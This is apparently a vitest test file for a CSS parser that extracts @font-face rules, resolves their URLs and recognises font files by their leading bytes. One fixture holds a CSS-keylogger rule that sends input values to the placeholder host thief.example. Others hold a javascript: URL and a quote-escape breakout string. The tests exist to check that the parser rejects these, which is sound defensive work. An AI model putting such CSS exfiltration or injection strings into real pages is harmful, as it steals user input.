import { expect, it } from 'vitest';
import { fontRules, isFontFile } from './font-sheet-rules.ts';

const sheet = 'https://fonts.example/css/a.css?family=A';

it('are the fonts of a style sheet alone, with complete addresses', () => {
  const css = `
    @charset "utf-8"; @import url(https://fonts.example/b.css);
    /* latin @font-face { font-family: Comment; src: url(c.woff2) } */
    input[value$="k"] { background: url(https://thief.example/k) }
    @font-face {
      font-family: 'Noto Sans'; font-style: normal; font-weight: 100 900; font-display: swap;
      src: local("Noto Sans"), url(../f/noto.woff2) format('woff2'), url("//cdn.example/noto.ttf") format(truetype);
      unicode-range: U+0000-00FF, U+0131;
    }
    @media screen { @font-face { font-family: Nested; src: url(n.woff2) } body { color: red } }
    @FONT-FACE{font-family:Noto  Serif;src:url(serif.woff)}
    a::after { content: "} @font-face { font-family: String; src: url(s.woff2) }" }`;
  expect(fontRules(css, sheet)).toEqual([
    {
      family: 'Noto Sans',
      source:
        'url("https://fonts.example/f/noto.woff2") format("woff2"), url("https://cdn.example/noto.ttf") format("truetype")',
      descriptors: { style: 'normal', weight: '100 900', display: 'swap', unicodeRange: 'U+0000-00FF, U+0131' },
    },
    { family: 'Noto Serif', source: 'url("https://fonts.example/css/serif.woff")', descriptors: {} },
  ]);
});

it.each([
  ['plain http', 'url(http://fonts.example/a.woff2)'],
  ['embedded', 'url(data:font/woff2;base64,d09GMg==)'],
  ['of the device', 'local(Arial)'],
  ['with a password', 'url(https://a:b@fonts.example/a.woff2)'],
  ['a script', 'url(javascript:alert)'],
  ['nothing', 'url()'],
  ['a gradient', 'linear-gradient(red, blue)'],
])('leave out a file that is %s', (_, source) => {
  expect(fontRules(`@font-face { font-family: A; src: ${source} }`, sheet)).toEqual([]);
});

it('can not be left by an address with quotes, escapes or line breaks', () => {
  const css = String.raw`@font-face { font-family: A; src: url('a\22 b\5c\29;\A c?\\") }') }`;
  const [rule] = fontRules(css, sheet);
  expect(rule?.source).toMatch(/^url\("https:\/\/fonts\.example\/css\/[^"\n]*(?:\\"[^"\n]*)*"\)$/);
});

it.each([
  '@font-face { font-family: A; src: url(a.woff2',
  '@font-face { font-family: A; src: url("a.woff2',
  '@font-face { font-family: A; src: url(a.woff2) /* open',
])('are read to the end of a style sheet that is cut off: %s', (css) => {
  expect(fontRules(css, sheet)).toMatchObject([{ family: 'A', source: 'url("https://fonts.example/css/a.woff2")' }]);
});

it('are told from font files by the first bytes', () => {
  const bytes = (text: string) => Uint8Array.from(text, (character) => character.charCodeAt(0));
  for (const font of ['wOFF', 'wOF2', 'OTTO', 'true', 'ttcf', '\0\x01\0\0']) {
    expect(isFontFile(bytes(`${font}rest`)), font).toBe(true);
  }
  for (const other of ['@fon', '/* f', '<!do', '']) expect(isFontFile(bytes(other)), other).toBe(false);
});
